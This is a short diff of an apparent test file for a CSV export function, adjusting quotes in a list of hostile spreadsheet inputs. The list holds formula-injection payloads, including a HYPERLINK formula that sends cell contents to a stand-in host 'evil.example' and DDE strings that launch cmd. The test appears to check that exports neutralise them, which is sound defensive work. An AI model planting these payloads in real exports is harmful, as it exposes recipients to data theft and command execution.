@@ -7,8 +7,8 @@ import { toCsv } from '../../src/lib/exports.ts';
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
   '+SUM(1,2)',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
